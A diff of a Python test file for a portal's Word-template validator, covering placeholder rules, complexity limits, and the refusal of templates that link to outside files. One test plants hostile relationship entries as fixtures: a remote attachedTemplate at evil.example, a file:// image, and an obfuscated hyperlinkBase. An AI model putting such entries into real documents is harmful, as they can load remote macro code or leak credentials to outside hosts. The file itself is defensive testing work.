@@ -11,6 +11,7 @@ from roadmaps.documents.content import Content, Item, Order
 from roadmaps.writers.word import default_template, write_word
 from roadmaps.writers.word_default import make_template
 from roadmaps.writers.word_template import WordTemplateError, check_template
+from roadmaps.writers.word_template_checks import check
 from tests.roadmaps.word_files import archive
 
 CONTENT = Content(
@@ -54,7 +55,7 @@ def test_the_template_in_the_repository_is_what_the_command_makes():
 
 def test_a_departments_template_keeps_its_own_words_and_gets_the_plan():
     mine = template("Герб", "Приказ № {{ номер_приказа }}", "{{ план }}", footer="{{ муниципалитет }}")
-    check_template(mine)
+    check(mine)
     made = docx.Document(io.BytesIO(write_word(CONTENT, template=mine)))
     assert [one.text for one in made.paragraphs if one.text][:2] == ["Герб", "Приказ № 412"]
     assert made.tables[0].rows[1].cells[1].text == "Совещание"
@@ -78,12 +79,12 @@ def test_a_departments_template_keeps_its_own_words_and_gets_the_plan():
 )
 def test_a_template_that_cannot_be_filled_in_is_refused_by_name(lines, said):
     with pytest.raises(WordTemplateError, match=said):
-        check_template(template(*lines))
+        check(template(*lines))
 
 
 def test_blocks_belong_into_the_text_itself():
     with pytest.raises(WordTemplateError, match="«план»"):
-        check_template(template("{{ план }}", header="{{ план }}"))
+        check(template("{{ план }}", header="{{ план }}"))
 
 
 @pytest.mark.parametrize(
@@ -107,13 +108,93 @@ def test_blocks_belong_into_the_text_itself():
 )
 def test_a_hostile_template_is_refused(name, change):
     with pytest.raises(WordTemplateError):
-        check_template(changed(default_template(), name, change))
+        check(changed(default_template(), name, change))
+
+
+def linked(attributes):
+    """The portal's template with one more relationship of its document."""
+    added = f"<Relationship {attributes}/></Relationships>".encode()
+    return changed(
+        default_template(),
+        "word/_rels/document.xml.rels",
+        lambda data: data.replace(b"</Relationships>", added),
+    )
+
+
+KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+
+
+@pytest.mark.parametrize(
+    "attributes",
+    [
+        f"Id='rId99' Type='{KIND}attachedTemplate' Target='http://evil.example/a.dotm' TargetMode='External'",
+        f'Id="rId99" Type="{KIND}image" Target="file://host/hyperlink.png"\n TargetMode = "External"',
+        f'Id="rId99" Type="{KIND}hyperlinkBase" Target="http://evil.example/" TargetMode="&#69;xternal"',
+    ],
+)
+def test_a_template_that_reaches_outside_is_refused_however_it_is_written(attributes):
+    with pytest.raises(WordTemplateError, match="внешние файлы"):
+        check(linked(attributes))
+
+
+def test_a_link_to_click_is_no_harm():
+    check(linked(f"Id='rId99' Type='{KIND}hyperlink' Target='http://example.ru/' TargetMode='External'"))
+
+
+@pytest.mark.parametrize(
+    ("lines", "said"),
+    [
+        (("{{ дорожная_карта }}.",), r"«\{\{ дорожная_карта \}\}.»"),
+        (("План: {{ план }}",), "«План: "),
+        (("{{ паспорт }}{{ план }}",), "паспорт"),
+        (("{% if есть_текст_приказа %}", "{{ план }}", "{% endif %}"), "«есть_текст_приказа»"),
+        (("{% if цель %}{{ план }}{% endif %}",), "дорожная_карта"),
+        (("{% if план %}{{ название }}{% endif %}",), "дорожная_карта"),
+    ],
+)
+def test_a_piece_stands_alone_and_does_not_depend_on_a_condition(lines, said):
+    with pytest.raises(WordTemplateError, match=said):
+        check(template(*lines))
+
+
+def test_a_piece_whose_paragraph_has_other_words_only_under_a_condition_is_refused():
+    with pytest.raises(WordTemplateError, match="«Лист: "):
+        check(template("{% if not есть_текст_приказа %}Лист: {% endif %}{{ план }}"))
+
+
+def test_a_condition_from_a_cell_into_the_text_is_refused():
+    document = docx.Document()
+    document.add_table(1, 1).cell(0, 0).text = "{% if есть_лист_ознакомления %}да"
+    document.add_paragraph("нет{% endif %}")
+    document.add_paragraph("{{ план }}")
+    with pytest.raises(WordTemplateError, match="Условие"):
+        check(saved(document))
+
+
+def test_a_piece_in_a_cell_takes_the_place_of_its_field():
+    document = docx.Document()
+    document.add_table(1, 1).cell(0, 0).text = "{{ план }}"
+    check(saved(document))
+    made = write_word(CONTENT, template=saved(document))
+    cell = docx.Document(io.BytesIO(made)).tables[0].cell(0, 0)
+    assert cell.tables[0].rows[1].cells[1].text == "Совещание"
+    assert "\ue000" not in cell.text
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["{{r " * 16_000, "{% if цель %}" * 2_000 + "{% endif %}" * 2_000],
+    ids=["runs", "depth"],
+)
+def test_a_template_that_would_keep_the_portal_busy_is_refused(text):
+    with pytest.raises(WordTemplateError, match="слишком сложен"):
+        check_template(template("{{ дорожная_карта }}", text))
 
 
 @pytest.mark.parametrize("data", [b"", b"PK\x03\x04", b"%PDF-1.7", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" * 9])
 def test_what_is_no_word_file_is_refused(data):
     with pytest.raises(WordTemplateError):
-        check_template(data)
+        check(data)
 
 
 def test_braces_in_the_roadmap_are_only_text():
